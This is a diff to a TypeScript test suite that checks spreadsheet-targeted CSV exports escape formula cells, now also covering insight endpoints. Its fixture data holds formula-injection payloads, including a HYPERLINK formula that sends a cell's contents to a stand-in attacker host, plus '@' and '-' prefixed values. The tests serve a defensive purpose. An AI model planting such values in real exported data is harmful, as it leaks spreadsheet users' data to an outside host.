@@ -8,15 +8,26 @@ import { largeRecords, openStand, type Stand } from './stand.ts';
 let stand: Stand;
 
 /** Large enough for responses that are assembled from cached blocks. */
-const { users = [], boards = [], pins = [], ...others } = largeRecords(3, 2_000);
+const { users = [], boards = [], pins = [], events = [], ...others } = largeRecords(3, 2_000);
 const RECORDS = {
   ...others,
   users: [{ ...users[0]!, name: '=HYPERLINK("http://evil.example/?"&A1)' }, ...users.slice(1)],
   boards: [{ ...boards[0]!, title: '@SUM(1+1)' }, ...boards.slice(1)],
+  events: [
+    ...events,
+    {
+      ...{ type: 'board', action: 'followed', ownerId: users[0]!.id, actorId: users[0]!.id },
+      ...{ boardId: boards[0]!.id, timestampMs: 0 },
+    },
+  ],
   pins: pins.map((pin) => ({ ...pin, title: `-${pin.title}` })),
 };
 
 const LISTS = ['/a/v1/users', '/a/v1/boards', '/b/v1/users', '/b/v1/boards', '/b/users'];
+const INSIGHTS = [
+  ...['points', 'boards', 'users', 'activity?interval=month&by=board'].map((path) => `/insights/v1/${path}`),
+  ...['pins', 'interactions'].map((path) => `/insights/v1/boards/7/${path}`),
+];
 const EVENTS = ['/a/v1/events', '/a/v1/events/pins', '/b/v1/board/7', '/insights/v1/events?board=7'];
 
 function withQuery(path: string, query: string): string {
@@ -43,7 +54,7 @@ describe('CSV for spreadsheets', () => {
   });
   after(() => stand.close());
 
-  for (const path of [...LISTS, ...EVENTS]) {
+  for (const path of [...LISTS, ...EVENTS, ...INSIGHTS]) {
     it(`has an apostrophe before formulas in ${path}, and plain CSV has none`, async () => {
       const plain = await rowsOf(withQuery(path, 'format=csv'));
       const cells = plain.flat();
@@ -112,6 +123,8 @@ describe('CSV for spreadsheets', () => {
       ['/a/v1/events?excel=1&since=start', 'parameter-malformed'],
       ['/a/v1/users?excel=1&excel=1&format=csv', 'parameter-repeated'],
       ['/a/v1/board/7/points?excel=1', 'parameter-unknown'],
+      ['/insights/v1/users?excel=1', 'parameter-malformed'],
+      ['/insights/v1/overview?excel=1', 'parameter-unknown'],
     ] as const) {
       const response = await stand.get(path);
       assert.equal(response.status, 400, path);
